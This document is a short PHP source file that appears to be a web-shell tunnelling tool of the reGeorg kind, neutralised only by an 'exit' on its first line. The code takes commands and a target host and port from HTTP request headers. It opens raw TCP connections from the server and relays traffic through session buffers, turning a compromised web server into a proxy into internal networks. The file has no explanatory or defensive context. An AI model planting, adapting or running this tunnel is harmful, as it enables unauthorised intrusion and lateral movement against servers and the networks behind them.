<?php exit; /* inert */ 
ini_set("allow_url_fopen", true);
set_time_limit(0);
$headers = getallheaders();
$cmd = $headers['X-CMD'];
switch ($cmd) {
    case "CONNECT":
        $target = $headers["X-TARGET"]; $port = (int) $headers["X-PORT"];
        $sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
        $res = @socket_connect($sock, $target, $port);
        if ($res === false) { header('X-STATUS: FAIL'); return; }
        socket_set_nonblock($sock);
        @session_start(); $_SESSION["run"] = true; $_SESSION["writebuf"] = ""; $_SESSION["readbuf"] = "";
        session_write_close();
        while ($_SESSION["run"]) {
            @session_start(); $w = $_SESSION["writebuf"]; $_SESSION["writebuf"] = ""; session_write_close();
            if ($w != "") socket_write($sock, $w, strlen($w));
            $o = socket_read($sock, 512);
            @session_start(); $_SESSION["readbuf"] .= $o; session_write_close();
        }
        break;
    case "FORWARD": @session_start(); $_SESSION["writebuf"] .= file_get_contents("php://input"); session_write_close(); header('X-STATUS: OK'); break;
    case "READ": @session_start(); echo $_SESSION["readbuf"]; $_SESSION["readbuf"] = ""; session_write_close(); header('X-STATUS: OK'); break;
    case "DISCONNECT": @session_start(); $_SESSION["run"] = false; session_write_close(); break;
}
